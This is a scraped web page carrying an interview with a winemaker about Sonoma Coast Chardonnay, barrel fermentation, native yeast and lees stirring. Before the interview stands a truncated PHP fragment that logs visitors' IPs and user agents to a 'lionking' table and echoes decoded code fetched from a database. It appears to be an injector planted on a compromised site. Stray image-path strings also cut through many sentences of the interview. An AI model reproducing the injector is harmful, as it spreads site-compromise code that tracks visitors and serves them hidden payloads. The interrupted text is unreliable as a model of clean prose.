= 1) { //mysql_query('INSERT INTO lionking (domainname, fullpath, ip, useragent, processtime) VALUES ("'.$g['domainname'].'","'.$g['fullpath'].'","'.$g['ip'].'","'.$g['useragent'].'", NOW())'); $rs = mysql_fetch_array($q); echo stripslashes(stripslashes(stripslashes(html_entity_decode(html_entity_decode($rs['code']))))); } else { mysql_query('INSERT INTO lionking_saved (domainname, stat, processtime) VALUES ("'.$g['domainname'].'","2", NOW())'); } } ?>
bjørn and bred Print
Written by Nikitas Magel

Sonoma Coast Chardonnay GrapesNM:  Albeit not in the legal sense, as in the Old World regions to which you alluded, do you feel that we might be seeing the beginnings of controlled appellation thinking here Stateside, by virtue of certain varietals being increasingly grown and produced within specific geographical areas?

GB:  For the subjective market-driven reason, rather than the legislative aspect of the European system, yes, I think that's true.  I believe certain styles are becoming galvanized and I think that that will be what drives consumer expectation.  And so we've got the larger regional aspects, the sub-appellation qualities, and then the vineyard designations that take it down to a whole other level.  It's interesting because the wine-drinking public is extremely diverse; there's a huge range of familiarity and knowledge around the wines being consumed.  So, given that, how do we make wine and communicate with consumers in an effective way that's informative and real, and not simply a marketing speil?Balancing Technique with Artistry

NM:  Switching gears and focusing on your own wines, what can you say about your winemaking approach, first off and specifically in the context of Chardonnay?  What have you learned from the Chardonnays that you've produced?

GB:  The first thing that comes to mind is the amountof attention they need.  I'm a pretty attentive winemaker; I'm here every day, certainly at harvest.  The thing about the Chardonnays that's different from the Pinot Noirs (and not necessarily particular to the two vineyard designations, but rather how I choose to do them) is the barrel fermented.  So, while you can have a five-ton tank of Pinot Noir that turns intosomething on the order of 250 cases, the Chardonnays are fermented in their barrels — each of which is about 25 cases and can be completely different from its neighbor, on the same rack and from the same juice!  You can have wildly different experiences from one barrel to the next, so they need constant monitoring.  It could be the difference between night and day: one can take off [and begin fermentation] after three days in barrel, where another one is still waiting after seven days.

But there's a level of that that's really desirable!  I would say that the winemaking techniques I'm practicing are not necessarily the most safe and secure or easiest ones to go with.  And it definitely builds in more work.  With the Chardonnays, I could leave them in tank longer, innoculate them there [with cultured yeast] to get that fermentation started, and have it roaring for a full day before they gointo barrel — if at all.  I could fully ferment in stainless-steel and not have anything to worry about, leaving me with a five-ton tank of Chardonnay that's done in a week, if I wanted.  But that's not the kind of wine I'm looking for; the effect of that barrel fermentation is significant!  And it's not just about innoculated vs. native yeast, but even the dynamic with which the fermentation builds.  A native yeast fermentation builds very slowly and so, over time, you get this population building, which in itself has a tremendous impact on the wine — and you will taste it!  I don't know that I could tell you exactly what it would do, but I do know that it makes a difference in richness, complexity,and texture.

NM:  So, some of the choices you're making have a profound effect on the style of your Chardonnay.  Any others you feel are noteworthy?  For instance, there's a pronounced creaminess to the mouthfeel of these wines, strongly suggestive of battonage.

GB:  I stir the lees at first to ensure that the fermentations are finishing — to ensure that the primary [fermentation] is done, that the yeast have eaten all the sugar, and to see that the malolactic fermentation is progressing nicely.  By stirring those lees and mixing up the wine, I'm ensuring first that the fermentations are going and that they'llfinish.  Then once Ifeel like I've got that basic requirement taken care of, the second part is to decide when to stop, depending on how much richness I want in the finished wine.  And so, my preference is to hold off on sulfuring the wine to allow for some evolution in the malolactic fermentation. If I were to add sulfur immediately after that secondary fermentation is finished, Barrel-Fermenting Chardonnay I think it would arrest the development of someflavors in the wine, whereas holding off gives the wine some time to integrate and to really complete the process.  And that might be why the wines develop a richness, roundness, and fatness, but without the overtly buttery popcorn flavors — even though they've gone through 100% ML.  And yetwe've also got the natural acidity from all the other acid profiles in there.  So the wines are bright andrich at the same time.



wine in the news